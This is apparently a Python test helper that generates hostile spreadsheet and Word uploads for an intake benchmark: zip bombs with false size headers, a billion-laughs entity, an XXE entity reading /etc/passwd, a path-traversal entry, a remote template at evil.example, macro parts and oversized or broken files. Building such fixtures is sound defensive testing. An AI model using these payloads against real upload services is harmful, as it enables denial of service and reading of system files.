"""The hostile uploads of the intake benchmark, made on the spot."""

import io
import struct
import zipfile
import zlib

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
)
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'>{}]>".format(
    "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
)
XXE = "<!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"


def _packed(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _workbook(sheet: str | bytes, **more: str | bytes) -> bytes:
    types = TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet")
    book = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats'
        '.org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    return _packed(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relations.format(
                f'<Relationship Id="r1" Type="{office}/officeDocument" Target="xl/workbook.xml"/>'
            ),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": relations.format(
                f'<Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
            ),
            "xl/worksheets/sheet1.xml": sheet,
            **more,
        }
    )


def _document(body: str, **more: str | bytes) -> bytes:
    types = TYPES.format(part="word/document.xml", kind="wordprocessingml.document")
    main = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{body}</w:document>'
    return _packed({"[Content_Types].xml": types, "word/document.xml": main, **more})


def _one_part(name: bytes, stream: bytes, announced: int) -> bytes:
    shared = struct.pack("<5H3L2H", 20, 0, 8, 0, 33, 0, len(stream), announced, len(name), 0)
    local = b"PK\x03\x04" + shared + name
    central = b"PK\x01\x02" + struct.pack("<H", 20) + shared + struct.pack("<3H2L", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 1, 1, len(central), len(local) + len(stream), 0)
    return local + stream + central + end


def _deflated(block: bytes, times: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"".join(compressor.compress(block) for _ in range(times)) + compressor.flush()


def _cells(reference: str) -> str:
    return f'<row r="1"><c r="A1"><v>1</v></c><c r="{reference}"><v>1</v></c></row>'


def hostile_files() -> dict[str, tuple[str, bytes]]:
    """Return a name for each attack with the file name and bytes it comes as."""
    mebibyte = b"<row/>" * 174_763
    honest = _workbook(SHEET.format(_cells("B1")))
    parts = io.BytesIO()
    with zipfile.ZipFile(parts, "w") as archive:
        for number in range(60_000):
            archive.writestr(zipfile.ZipInfo(f"{number}.xml"), b"")
    remote = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return {
        "1 GiB of rows": ("a.xlsx", _one_part(b"xl/worksheets/sheet1.xml", _deflated(mebibyte, 1024), 2**30)),
        "256 MiB announced as 1 KiB": ("a.xlsx", _one_part(b"[Content_Types].xml", _deflated(b" " * 2**20, 256), 1024)),
        "512 MiB string": ("a.xlsx", _one_part(b"xl/sharedStrings.xml", _deflated(b"a" * 2**20, 512), 2**29)),
        "element flood of 47 MiB": ("a.xlsx", _workbook(SHEET.format("<row><c/></row>" * 3_200_000))),
        "cell at XFD1048576": ("a.xlsx", _workbook(SHEET.format(_cells("XFD1048576")))),
        "row 2,000,000,000": ("a.xlsx", _workbook(SHEET.format('<row r="2000000000"><c><v>1</v></c></row>'))),
        "10,000 columns": ("a.xlsx", _workbook(SHEET.format(f"<row>{'<c><v>1</v></c>' * 10_000}</row>"))),
        "billion laughs": ("a.xlsx", _workbook(LAUGHS + SHEET.format("<row><c><v>&j;</v></c></row>"))),
        "external entity": ("a.xlsx", _workbook(XXE + SHEET.format("<row><c><v>&x;</v></c></row>"))),
        "60,000 parts": ("a.xlsx", parts.getvalue()),
        "name that climbs out": ("a.xlsx", _workbook(SHEET.format(""), **{"../../../tmp/evil": "x"})),
        "macros in a table": ("a.xlsx", _workbook(SHEET.format(""), **{"xl/vbaProject.bin": b"x"})),
        "cut in half": ("a.xlsx", honest[: len(honest) // 2]),
        "garbage": ("a.xlsx", bytes(range(256)) * 4000),
        "entities in a document": ("a.docx", _packed({"[Content_Types].xml": LAUGHS + "<Types>&j;</Types>"})),
        "deep nesting": ("a.docx", _document("<w:p>" * 100_000 + "</w:p>" * 100_000)),
        "remote template": ("a.docx", _document("<w:body/>", **{"word/_rels/settings.xml.rels": remote})),
        "macros in a document": ("a.docx", _document("<w:body/>", **{"word/vbaProject.bin": b"x"})),
        "element flood in a document": ("a.docx", _document("<w:p/>" * 8_000_000)),
    }
